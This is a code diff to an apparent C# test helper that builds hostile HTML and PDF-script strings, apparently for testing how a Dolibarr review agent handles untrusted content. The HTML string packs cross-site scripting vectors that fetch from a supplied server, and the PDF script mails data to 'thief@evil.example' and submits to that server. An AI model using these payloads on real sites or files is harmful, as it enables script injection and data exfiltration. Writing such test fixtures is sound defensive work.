@@ -6,7 +6,7 @@ namespace DolibarrAgent.Review.Tests;
 internal static class HtmlHostility
 {
     public static string Html(string server) =>
-        $"</title></style></bdi></td></table><script>document.title='owned';fetch('{server}/script')</script><img src={server}/img onerror=\"document.title='owned'\"> \" onfocus='document.title=1' autofocus x=\" --> ]]> <a href=\"javascript:document.title='owned'\">click</a> <base href={server}/> <meta http-equiv=refresh content=\"0;url={server}/refresh\"> <iframe srcdoc=\"<script>parent.document.title='owned'</script>\"></iframe> <svg onload=document.title='owned'> &#x3c;script&#x3e; {{{{7*7}}}}";
+        $"<u>x</u></title></style></bdi></td></table><script>document.title='owned';fetch('{server}/script')</script><img src={server}/img onerror=\"document.title='owned'\"> \" onfocus='document.title=1' autofocus x=\" --> ]]> <a href=\"javascript:document.title='owned'\">click</a> <base href={server}/> <meta http-equiv=refresh content=\"0;url={server}/refresh\"> <iframe srcdoc=\"<script>parent.document.title='owned'</script>\"></iframe> <svg onload=document.title='owned'> &#x3c;script&#x3e; {{{{7*7}}}}";
 
     public static string PdfScript(string server) =>
         $"app.alert(\"Approved\"); app.mailMsg(false, \"thief@evil.example\"); try {{ this.submitForm(\"{server}/submit\"); }} catch (e) {{}} try {{ app.launchURL(\"{server}/launch\"); }} catch (e) {{}} this.getURL(\"{server}/get\");";
